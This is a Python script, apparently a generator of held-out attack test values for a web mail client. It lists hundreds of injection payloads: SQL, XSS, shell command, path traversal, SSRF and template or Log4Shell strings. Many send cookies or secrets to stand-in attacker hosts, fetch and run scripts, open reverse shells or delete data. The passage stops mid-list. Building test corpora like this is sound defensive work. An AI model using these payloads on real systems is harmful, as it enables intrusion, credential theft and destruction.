"""Attack held-out values for the "mailclient" corpus.

Payloads placed in the notations of a web mail client and list archive:
search operators, subjects, display names, folder and label names, filter
rules, attachment names, HTML signatures and bodies, auto-reply templates,
contact exports, remote-image / link-preview / IMAP-import URLs, headers and
the LDAP address book.  Each class is "<context>-<technique>[+<encoding>]"
and names where a vulnerable app would put the value (SQL string, shell line,
file path, fetched URL, server-side template, raw HTML, header, LDAP filter).
All values are hand-written literals or small templates over hand-written
pools.  Output: attacks.jsonl next to this file.
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 8802
PREFIX = "ha88"

# ------------------------------------------------------------------- sqli
# search-*: WHERE subject LIKE '%<v>%'; folder/label-*: WHERE folder = '<v>'
# msgid-*: WHERE id = <v>; sort-*: ORDER BY <v>; contact-*: INSERT ... VALUES ('<v>', ...)
SQLI = [
    ("search-union", "invoice%' UNION SELECT username, password_hash, NULL, NULL FROM users-- -"),
    ("search-boolean", "from:alice' OR '1'='1"),
    ("search-time-mysql", "has:attachment' AND SLEEP(5)-- -"),
    ("search-time-pg", "report%'; SELECT pg_sleep(7)--"),
    ("search-time-mssql", "budget'; WAITFOR DELAY '0:0:6'--"),
    ("folder-stacked", "Inbox'; DROP TABLE messages;--"),
    ("search-error-mysql", "minutes' AND extractvalue(1, concat(0x7e, (SELECT version())))-- -"),
    ("search-error-mysql", "q' AND updatexml(1, concat(0x3a, (SELECT user())), 1)-- -"),
    ("search-union-oracle", "x' UNION SELECT banner, NULL FROM v$version WHERE ROWNUM=1--"),
    ("search-union-sqlite", "zzz' UNION SELECT name, sql, 3, 4 FROM sqlite_master--"),
    ("sort-blind-case", "date DESC, (CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN subject ELSE sender END)"),
    ("msgid-boolean", "1842 OR 1=1"),
    ("msgid-subquery", "1842 AND 1=(SELECT COUNT(*) FROM pg_user WHERE usesuper)"),
    ("search-blind-substring", "from:alice@example.org' AND ASCII(SUBSTRING((SELECT password FROM accounts LIMIT 1),1,1))>77-- -"),
    ("search-oob-mssql", "'; EXEC master..xp_dirtree '\\\\attacker.example\\share'--"),
    ("search-pg-program", "'; COPY (SELECT 1) TO PROGRAM 'curl http://attacker.example/p|sh'--"),
    ("search-union-file", "' UNION SELECT LOAD_FILE('/etc/passwd'), 2, 3, 4-- -"),
    ("search-outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>', 2 INTO OUTFILE '/var/www/html/att.php'-- -"),
    ("contact-insert-subquery", "Pat O'Brien', (SELECT string_agg(password_hash, ',') FROM users))-- "),
    ("displayname-insert", "\"O'Brien, Pat'), ((SELECT email FROM admins LIMIT 1), 'x')-- \" <pat@example.org>"),
    ("filter-boolean", "subject contains \"x') OR 1=1--\""),
    ("label-error-pg", "Receipts' AND 1=CAST((SELECT current_user) AS int)--"),
    ("search-date-boolean", "before:2024/01/01' OR received_at > '1970-01-01"),
    ("search-versioned-comment", "' /*!50000UNION*/ /*!50000SELECT*/ 1, user(), 3-- -"),
    ("search-like", "' OR 'x' LIKE 'x"),
    ("search-paren", "subject:(report') OR ('a'='a)"),
    ("search-having", "' GROUP BY folder HAVING 1=1--"),
    ("search-union-information-schema", "%' UNION ALL SELECT table_name, column_name FROM information_schema.columns-- -"),
    ("msgid-stacked", "77; UPDATE users SET is_admin=true WHERE email='mallory@attacker.example'"),
    ("label-stacked-mssql", "Work'; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;--"),
    ("search-xp-cmdshell", "'; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt'--"),
    ("search-oracle-dns", "' || UTL_INADDR.get_host_address((SELECT user FROM dual)||'.attacker.example') || '"),
    ("search-oracle-http", "x' AND 1=UTL_HTTP.request('http://attacker.example/'||(SELECT password FROM dba_users WHERE ROWNUM=1))--"),
    ("search-bool-inference", "list:pta-board' AND (SELECT COUNT(*) FROM users WHERE role='admin')>0 AND 'a'='a"),
    ("search-heavy-query", "' AND (SELECT count(*) FROM generate_series(1,30000000))>0--"),
    ("search-benchmark", "' AND BENCHMARK(9000000, SHA1('mail'))-- -"),
    ("search-conditional-time", "' AND IF(SUBSTRING(@@version,1,1)='8', SLEEP(4), 0)-- -"),
    ("search-sqlite-randomblob", "' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(300000000))))--"),
    ("folder-union-ntext", "Archive' UNION SELECT NULL, CONCAT(id, ':', email, ':', pw), NULL FROM mailbox_users#"),
    ("sort-injection", "(SELECT 1 FROM (SELECT SLEEP(3))x)"),
    ("sort-ordinal-probe", "received_at ASC, 11-- -"),
    ("search-json-op", "' OR settings::jsonb ? 'is_admin' OR 'a'='b"),
    ("search-hex-literal", "' UNION SELECT 1, 0x2f6574632f706173737764, 3-- -"),
    ("search-char-concat", "' OR subject=CHAR(73,110,118,111,105,99,101)-- -"),
    ("search-pg-dollar", "x'; SELECT $$a$$ || (SELECT passwd FROM pg_shadow LIMIT 1)::int;--"),
    ("autoreply-insert-update", "Back Monday', signature=(SELECT api_token FROM users WHERE id=1) WHERE '1'='1"),
    ("search-mssql-error", "' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.databases))--"),
    ("search-mssql-openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB', 'server=198.51.100.9;uid=sa;pwd=x', 'select 1')--"),
    ("search-mysql-procedure", "' PROCEDURE ANALYSE(EXTRACTVALUE(1, CONCAT(0x3a, database())), 1)-- -"),
    ("attachment-filename-insert", "report.pdf'), ('x', (SELECT group_concat(pw) FROM users))-- -.pdf"),
    ("search-union-null-count", "' UNION SELECT NULL, NULL, NULL, NULL, NULL, @@hostname-- -"),
    ("search-backslash-escape", "\\' OR 1=1-- -"),
    ("search-double-quote", "subject:\" OR \"\"=\""),
    ("search-in-subquery", "' OR owner_id IN (SELECT id FROM users)-- -"),
    ("msgid-limit-union", "0 UNION SELECT id, email, password_hash, 1, 2 FROM users LIMIT 5"),
    ("plain-tautology", "' OR 1=1 --"),
    ("plain-comment", "admin'--"),
    ("plain-union", "' UNION SELECT username, password FROM users--"),
    ("plain-stacked", "1; DROP TABLE users"),
    ("plain-time", "' OR SLEEP(10)#"),
    ("plain-boolean-numeric", "1 OR 1=1"),
    ("plain-error", "' AND 1=CONVERT(int, @@version)--"),
    ("search-tautology+urlenc", "%27%20OR%20%271%27%3D%271"),
    ("search-union+comment-space", "'/**/UNION/**/SELECT/**/login,pass/**/FROM/**/users--"),
    ("search-union+case-mix", "' uNiOn SeLeCt email, pAsSwOrD fRoM users-- -"),
    ("search-boolean+double-urlenc", "%2527%2520OR%25201%253D1--%2520"),
    ("search-union+newline-space", "'\nUNION\nSELECT\nusername,\npassword_hash\nFROM\nusers--"),
]

# -------------------------------------------------------------------- xss
# rendered unescaped in the message list, reader pane, signature or archive page
XSS = [
    ("subject-script", "Re: Q3 numbers <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("displayname-img-onerror", "\"Pat <img src=x onerror=alert(document.domain)>\" <pat@example.org>"),
    ("signature-svg-onload", "--\nAnn Smith<svg onload=\"location='https://attacker.example/?t='+localStorage.token\">"),
    ("body-iframe-srcdoc", "Hi,<iframe srcdoc=\"<script>parent.postMessage(document.cookie,'*')</script>\"></iframe>"),
    ("signature-javascript-href", "<a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">My website</a>"),
    ("folder-attr-breakout", "Receipts\" onmouseover=\"alert(1)\" x=\""),
    ("label-attr-breakout-single", "Travel' autofocus onfocus='alert(document.cookie)' '"),
    ("subject-title-breakout", "</title><script>alert('mail')</script>"),
    ("search-reflected", "\"><script src=//attacker.example/x.js></script>"),
    ("body-details-ontoggle", "<details open ontoggle=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\">Meeting notes</details>"),
    ("attachment-filename", "invoice<img src=1 onerror=alert(1)>.pdf"),
    ("body-math-href", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("body-svg-animate", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("signature-style-import", "<style>@import url('https://attacker.example/steal.css');</style>Regards, Pat"),
    ("body-form-action", "<form action=\"https://attacker.example/login\" method=post>Session expired. Password: <input name=pw type=password><button>Log in</button></form>"),
    ("body-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(document.cookie)\">"),
    ("body-object-data", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("body-embed", "<embed src=\"javascript:alert(origin)\">"),
    ("subject-js-string-breakout", "Re: lunch';alert(document.cookie);//"),
    ("displayname-json-breakout", "Pat\"</script><script>new Image().src='//attacker.example/?'+document.cookie</script>"),
    ("body-base-href", "<base href=\"https://attacker.example/\">Click <a href=\"/inbox\">here</a> to open your inbox."),
    ("body-video-onerror", "<video><source onerror=\"javascript:alert(1)\"></video>"),
    ("body-input-autofocus", "<input autofocus onfocus=alert(document.domain)>"),
    ("body-marquee-onstart", "<marquee onstart=alert(1)>Sale!</marquee>"),
    ("body-body-onload", "<body onload=\"document.location='https://attacker.example/?c='+document.cookie\">"),
    ("body-angular-template", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("body-vue-template", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("signature-data-uri-link", "<a href=\"data:text/html,<script>alert(document.domain)</script>\">vCard</a>"),
    ("body-svg-use-href", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("body-noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
    ("body-textarea-breakout", "</textarea><script>alert(document.cookie)</script>"),
    ("body-comment-breakout", "--><img src=x onerror=alert(1)><!--"),
    ("subject-cdata-breakout", "]]><script>alert(1)</script><![CDATA["),
    ("body-srcset", "<img srcset=\",,,,,x\" onerror=\"alert(document.domain)\">"),
    ("body-audio-src", "<audio src=x onerror=alert(1)>"),
    ("body-link-import", "<link rel=stylesheet href=\"https://attacker.example/track.css?u=victim\">"),
    ("body-css-exfil", "<style>input[name=csrf][value^=a]{background:url(https://attacker.example/a)}</style>"),
    ("body-svg-script-xlink", "<svg><script xlink:href=\"https://attacker.example/p.js\"></script></svg>"),
    ("body-onpointer", "<div onpointerenter=\"alert(document.cookie)\" style=\"position:fixed;inset:0\">Hi!</div>"),
    ("body-dom-clobber", "<form id=config><input name=apiBase value=\"https://attacker.example\"></form>"),
    ("body-jquery-html", "<img src=x onerror=$.getScript('//attacker.example/p.js')>"),
    ("body-setTimeout-string", "<img src=x onerror=\"setTimeout('fet'+'ch(`//attacker.example/`+document.cookie)')\">"),
    ("body-template-literal", "<svg onload=alert`1`>"),
    ("body-window-name", "<iframe src=\"https://mail.example.com/\" name=\"<img src=x onerror=alert(1)>\"></iframe>"),
    ("body-import-module", "<script type=module>import('https://attacker.example/m.js')</script>"),
    ("body-button-formaction", "<form><button formaction=javascript:alert(1)>View attachment</button></form>"),
    ("body-isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("body-table-background", "<table background=\"javascript:alert(1)\"><tr><td>Q3</td></tr></table>"),
    ("body-xmp-breakout", "<xmp></xmp><img src=x onerror=alert(1)>"),
    ("body-svg-foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("quoted-reply-html", "> On Tue Pat wrote:\n> <img src=\"x\" onerror=\"fetch('//attacker.example/?m='+btoa(document.body.innerText))\">"),
    ("folder-svg-title", "<svg><title><script>alert(1)</script></title></svg>"),
    ("body-contenteditable", "<p contenteditable onblur=alert(1) autofocus>Type your reply</p>"),
    ("body-anchor-ping", "<a href=\"https://example.com\" ping=\"https://attacker.example/read-receipt\">Newsletter</a><img src=x onerror=this.previousSibling.click()>"),
    ("body-sanitizer-mxss", "<noscript><style></noscript><img src=x onerror=alert(1)></style>"),
    ("body-event-oncopy", "<p oncopy=\"fetch('//attacker.example/?c='+document.cookie)\">Copy this tracking code: 4471</p>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg/onload=alert(1)>"),
    ("plain-javascript-uri", "javascript:alert(document.cookie)"),
    ("plain-iframe", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("body-script+html-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("signature-href+entity-obfuscation", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">web</a>"),
    ("body-img+case-mix", "<ImG sRc=x OnErRoR=alert(1)>"),
    ("search-reflected+urlenc", "%22%3E%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("body-js+unicode-escape", "<img src=x onerror=\"\\u0061\\u006c\\u0065\\u0072\\u0074(1)\">"),
    ("body-href+tab-newline", "<a href=\"jav&#x09;ascript:alert(1)\">open</a>"),
    ("subject-script+double-urlenc", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("body-svg+html-hex-entities", "<svg onload=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
]

# ------------------------------------------------------------------- cmdi
# attachment converter: `convert "<name>" ...`; mail filter pipe; archive export;
# IMAP import host passed to a shell; signature image resize; ping for MX check.
CMDI = [
    ("attachment-filename-semicolon", "invoice.pdf; curl -s http://attacker.example/i.sh | sh"),
    ("attachment-filename-subshell", "photo_$(id).jpg"),
    ("attachment-filename-backtick", "scan`wget -qO- http://203.0.113.5/x|sh`.tif"),
    ("attachment-filename-quote-breakout", "report\"; nc 203.0.113.8 4444 -e /bin/sh; echo \".pdf"),
    ("attachment-filename-single-quote", "minutes'; cat /etc/shadow > /tmp/o; '.docx"),
    ("filter-pipe", "| /bin/sh -c 'curl attacker.example/f.sh | bash'"),
    ("filter-procmail-action", ":0\n* ^Subject:.*invoice\n| bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"),
    ("sieve-pipe-extension", "require \"vnd.dovecot.pipe\";\npipe \"sh\" [\"-c\", \"id > /tmp/pwned\"];"),
    ("mxcheck-host-semicolon", "example.org; id"),
    ("mxcheck-host-and", "example.org && uname -a"),
    ("mxcheck-host-or", "nonexistent.invalid || cat /etc/passwd"),
    ("mxcheck-host-newline", "example.org\nwget http://attacker.example/b -O /tmp/b; sh /tmp/b"),
    ("imap-host-subshell", "imap.example.org$(curl -d @/etc/passwd attacker.example)"),
    ("export-folder-name", "Inbox/$(rm -rf ~)"),
    ("export-folder-backtick", "Archive`touch /tmp/owned`"),
    ("signature-image-resize", "logo.png -resize 80x80 ; python3 -c 'import os;os.system(\"id\")' ;"),
    ("attachment-imagemagick-url", "https://example.com/a.png\"|ls \"-la"),
    ("search-grep-arg", "--include=*.eml -r -e . /etc"),
    ("search-grep-escape", "foo' /etc/passwd '"),
    ("archive-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh\\ shell.sh"),
    ("attachment-zip-arg", "-T -TT 'sh -c id' x.zip"),
    ("msmtp-recipient", "ann@example.com -X /var/www/html/s.php"),
    ("sendmail-arg-injection", "bob@example.com -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("displayname-sendmail", "\"Pat\\\" -be ${run{/bin/sh -c 'id'}} \\\"\" <pat@example.org>"),
    ("vacation-script-ifs", "away;cat${IFS}/etc/passwd"),
    ("filter-brace-expansion", "junk;{curl,-s,http://attacker.example/x}|sh"),
    ("label-windows-amp", "Receipts & type C:\\Windows\\win.ini"),
    ("label-windows-pipe", "Travel | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("attachment-windows-caret", "invoice.pdf & c^m^d /c who^ami"),
    ("attachment-windows-percent", "a.docx & echo %USERNAME% > \\\\attacker.example\\drop\\u.txt"),
    ("mxcheck-dns-exfil", "example.org; nslookup $(whoami).attacker.example"),
    ("mxcheck-sleep", "example.org; sleep 9 #"),
    ("mxcheck-ping-timing", "127.0.0.1 & ping -c 10 127.0.0.1 &"),
    ("attachment-filename-redirect", "notes.txt > /var/www/html/index.html"),
    ("import-path-process-sub", "mbox <(curl -s http://attacker.example/m)"),
    ("export-format-eval", "mbox; eval \"$(echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3MgfCBzaA== | base64 -d)\""),
    ("attachment-wildcard-bypass", "x.pdf;/???/??t /???/p??s??"),
    ("filter-pipe-perl", "|perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.4\")))'"),
    ("filter-pipe-python", "|python3 -c \"import urllib.request as u;exec(u.urlopen('http://attacker.example/p').read())\""),
    ("signature-ghostscript", "%!PS\nuserdict /setpagedevice undef\n(%pipe%id > /tmp/gs) (w) file"),
    ("attachment-filename-dollar-brace", "q3_${IFS}$(cat${IFS}/etc/hostname).xlsx"),
    ("mxcheck-hex-printf", "example.org;$(printf '\\x69\\x64')"),
    ("mxcheck-quote-split", "example.org;w'h'o\"a\"mi"),
    ("attachment-filename-env", "a.pdf;env>/tmp/e"),
    ("export-tilde-exec", "~;/usr/bin/id"),
    ("attachment-newline", "invoice.pdf\nid\n"),
    ("imap-host-ssh-option", "-oProxyCommand=sh -c 'id>/tmp/p' x"),
    ("smtp-test-host-curl-config", "-K /etc/passwd http://example.org"),
    ("attachment-filename-awk", "a.pdf'; awk 'BEGIN{system(\"id\")}'; '"),
    ("folder-find-exec", "Inbox -exec sh -c id \\;"),
    ("antivirus-scan-path", "/tmp/upload.eml; crontab -l | { cat; echo '* * * * * curl attacker.example|sh'; } | crontab -"),
    ("signature-exiftool", "logo.jpg -execute -if '$Filename' -p '${Filename;system(\"id\")}'"),
    ("filter-git-ext", "ext::sh -c touch% /tmp/pwned"),
    ("plain-semicolon", "; cat /etc/passwd"),
    ("plain-subshell", "$(id)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-pipe", "| nc 203.0.113.3 4444 -e /bin/bash"),
    ("plain-and", "&& whoami"),
    ("plain-newline", "\nid\n"),
    ("attachment-filename+urlenc", "invoice.pdf%3B%20curl%20attacker.example%2Fs%7Csh"),
    ("mxcheck-host+newline-urlenc", "example.org%0Aid%0A"),
    ("export-folder+ifs-obfuscation", "Inbox;c${u}at${IFS}/e${u}tc/pa${u}sswd"),
    ("mxcheck-host+double-urlenc", "example.org%253B%2520id"),
    ("attachment-filename+backslash-obfuscation", "a.pdf;w\\h\\o\\a\\m\\i"),
]

# -------------------------------------------------------------- traversal
# archive path /archive/<list>/<year>/<file>; attachment download by name;
# theme/signature image include; locale file; export destination.
TRAVERSAL = [
    ("attachment-download-dotdot", "../../../../etc/passwd"),
    ("archive-list-path", "pta-board/../../../../etc/shadow"),
    ("attachment-download-windows", "..\\..\\..\\..\\Windows\\win.ini"),
    ("archive-year-path", "2024/../../../../../proc/self/environ"),
    ("attachment-filename-upload", "../../../var/www/html/shell.php"),
    ("signature-image-absolute", "/etc/ssl/private/mail.key"),
    ("locale-include", "../../../../../usr/share/dict/../../../etc/hosts"),
    ("theme-file", "dark/../../../../config/database.yml"),
    ("export-destination", "/var/spool/cron/crontabs/root"),
    ("attachment-download-nested-strip", "....//....//....//etc/passwd"),
    ("attachment-download-nested-backslash", "....\\\\....\\\\....\\\\windows\\\\system.ini"),
    ("archive-msgfile", "2024-03/msg00042.eml/../../../../../root/.ssh/id_rsa"),
    ("attachment-download-prefix-escape", "/var/mail/attachments/../../../etc/passwd"),
    ("attachment-nullbyte-encoded", "../../../../etc/passwd%00.png"),
    ("attachment-download-unc", "\\\\attacker.example\\share\\payload.dll"),
    ("attachment-file-uri", "file:///etc/passwd"),
    ("folder-maildir", "INBOX/../../../../home/ann/Maildir/cur"),
    ("mbox-import-path", "/home/pat/mail/../../../etc/master.passwd"),
    ("attachment-proc-fd", "/proc/self/fd/3"),
    ("attachment-proc-cwd", "../../../../proc/self/cwd/app/settings.py"),
    ("archive-dotenv", "../../.env"),
    ("archive-git-config", "../../../.git/config"),
    ("locale-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("template-include", "../templates/../../../../../etc/nginx/nginx.conf"),
    ("attachment-zip-slip", "../../../../../home/app/.bashrc"),
    ("attachment-zip-slip-windows", "..\\..\\..\\Users\\Public\\Start Menu\\Programs\\Startup\\run.bat"),
    ("attachment-drive-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("attachment-windows-mixed-slash", "..\\../..\\../boot.ini"),
    ("archive-semicolon-path", "/archive/..;/..;/admin/config"),
    ("attachment-tomcat-webinf", "../../WEB-INF/web.xml"),
    ("signature-image-aws", "../../../../root/.aws/credentials"),
    ("export-ssh-authorized", "../../../../home/mail/.ssh/authorized_keys"),
    ("archive-log-file", "../../../../var/log/mail.log"),
    ("attachment-kube-token", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("attachment-windows-ads", "..\\..\\web.config::$DATA"),
    ("attachment-trailing-dot-windows", "..\\..\\..\\inetpub\\wwwroot\\web.config."),
    ("attachment-device-name", "CON\\..\\..\\..\\Windows\\win.ini"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-windows", "..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-proc", "/proc/self/environ"),
    ("plain-windows-system32", "C:\\Windows\\System32\\config\\SAM"),
    ("attachment-download+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("archive-path+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("attachment-download+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("attachment-download+unicode-slash", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("archive-path+dot-urlenc", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/group"),
    ("attachment-windows+urlenc-backslash", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("attachment-download+fullwidth", "．．／．．／．．／etc／passwd"),
]

# ------------------------------------------------------------------- ssrf
# remote image proxy, link preview, IMAP/POP import host, avatar URL, webhook,
# calendar subscription, "fetch attachment from URL".
SSRF = [
    ("linkpreview-metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("imageproxy-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("imageproxy-metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("linkpreview-localhost-admin", "http://127.0.0.1:8080/admin/users?export=csv"),
    ("imap-import-internal", "imap://10.0.0.12:143/INBOX"),
    ("avatar-url-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%22%0D%0ASAVE%0D%0A"),
    ("webhook-internal-elastic", "http://localhost:9200/_cat/indices?v"),
    ("calendar-subscribe-file", "file:///home/mail/.netrc"),
    ("linkpreview-dict", "dict://127.0.0.1:11211/stats"),
    ("imageproxy-ipv6-loopback", "http://[::1]:8500/v1/agent/self"),
    ("imageproxy-ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]/server-status"),
    ("linkpreview-userinfo-confusion", "https://mail.example.com@127.0.0.1:2375/containers/json"),
    ("linkpreview-redirect", "https://redirect.attacker.example/302?to=http://169.254.169.254/latest/user-data"),
    ("imageproxy-dns-rebind", "http://rebind.attacker.example/latest/meta-data/"),
    ("avatar-nip-loopback", "http://127.0.0.1.nip.attacker.example:5000/debug"),
    ("calendar-subscribe-internal", "webcal://192.168.1.1/cgi-bin/config.exp"),
    ("smtp-relay-host-internal", "smtp://172.17.0.1:25"),
    ("pop-import-internal", "pop3://10.10.0.5:110/"),
    ("linkpreview-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-docker-socket", "http://unix:/var/run/docker.sock:/containers/json"),
    ("imageproxy-metadata-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("imageproxy-metadata-oracle", "http://192.0.0.192/latest/meta-data/"),
    ("linkpreview-consul", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("avatar-ldap-scheme", "ldap://127.0.0.1:389/dc=example,dc=com??sub?(objectClass=*)"),
    ("attachment-fetch-tftp", "tftp://203.0.113.2/exfil.bin"),
    ("linkpreview-jar", "jar:http://attacker.example/a.zip!/x.txt"),
    ("imageproxy-netdoc", "netdoc:///etc/hosts"),
    ("webhook-zero-host", "http://0.0.0.0:9000/minio/admin/v3/info"),
    ("linkpreview-short-ip", "http://127.1/latest/meta-data/"),
    ("imap-import-header-host", "imap.example.org:993/?host=127.0.0.1:6379"),
    ("remote-image-src", "<img src=\"http://169.254.169.254/latest/meta-data/\" width=1 height=1>"),
    ("linkpreview-php-expect", "expect://id"),
    ("webhook-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0ARCPT%20TO:<ceo@example.com>%0D%0ADATA%0D%0AHi%0D%0A.%0D%0A"),
    ("calendar-subscribe-internal-admin", "http://intranet.local/admin/backup.zip"),
    ("linkpreview-fragment-confusion", "http://127.0.0.1:6379#@example.com/"),
    ("avatar-backslash-confusion", "http://example.com\\@169.254.169.254/latest/meta-data/"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file", "file:///c:/windows/win.ini"),
    ("plain-gopher", "gopher://127.0.0.1:11211/_stats"),
    ("plain-loopback-ip", "http://127.0.0.1:22/"),
    ("imageproxy-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("linkpreview-localhost+hex-ip", "http://0x7f000001:8080/actuator/env"),
    ("imageproxy-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("linkpreview-metadata+urlenc", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("avatar-localhost+mixed-ip", "http://0x7f.0.0.1:2379/v2/keys/?recursive=true"),
    ("imageproxy-loopback+ipv6-full", "http://[0:0:0:0:0:ffff:7f00:1]:8080/"),
    ("linkpreview-localhost+enclosed-alnum", "http://①②⑦.⓪.⓪.①:8080/"),
]

# ------------------------------------------------------------------- code
# auto-reply / signature rendered as a server template; contacts CSV export;
# JSON settings merge; XML import; log4j-logged headers; serialized drafts.
CODE = [
    ("autoreply-ssti-jinja", "I'm away until {{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
    ("autoreply-ssti-jinja-cycler", "Back Monday. {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("signature-ssti-jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("autoreply-ssti-jinja-lipsum", "{{ lipsum.__globals__['os'].popen('curl attacker.example/x|sh').read() }}"),
    ("signature-ssti-jinja-request", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("autoreply-ssti-jinja-attr", "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}"),
    ("subject-ssti-jinja-config", "Re: {{ config.items() }}"),
    ("autoreply-ssti-twig", "{{ ['id']|filter('system') }}"),
    ("signature-ssti-twig-map", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("autoreply-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("signature-ssti-velocity", "#set($rt=$class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("autoreply-ssti-erb", "Out until <%= `id` %>"),
    ("signature-ssti-erb-system", "<%= system('cat /etc/passwd') %>"),
    ("autoreply-ssti-smarty", "{system('id')}"),
    ("autoreply-ssti-mako", "${self.module.cache.util.os.system('id')}"),
    ("signature-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("autoreply-ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind this \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
    ("signature-ssti-pug", "#{function(){return global.process.mainModule.require('child_process').execSync('id').toString()}()}"),
    ("autoreply-ssti-ejs", "<%- global.process.mainModule.require('child_process').execSync('whoami') %>"),
    ("autoreply-ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("signature-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("filter-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("search-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("subject-el", "${pageContext.request.getSession().setAttribute('admin', true)}"),
    ("autoreply-el-jakarta", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("subject-log4shell", "Re: invoice ${jndi:ldap://attacker.example:1389/a}"),
    ("displayname-log4shell-nested", "\"${${lower:j}${lower:n}di:${lower:r}mi://203.0.113.10/x}\" <pat@example.org>"),
    ("useragent-log4shell-env", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/q}"),
    ("header-log4shell-default", "${${::-j}ndi:ldap://198.51.100.7/o}"),
    ("messageid-log4shell-sys", "<${jndi:ldap://${sys:java.version}.attacker.example/m}@mail.example.com>"),
    ("contacts-csv-formula", "=cmd|'/C calc'!A0"),
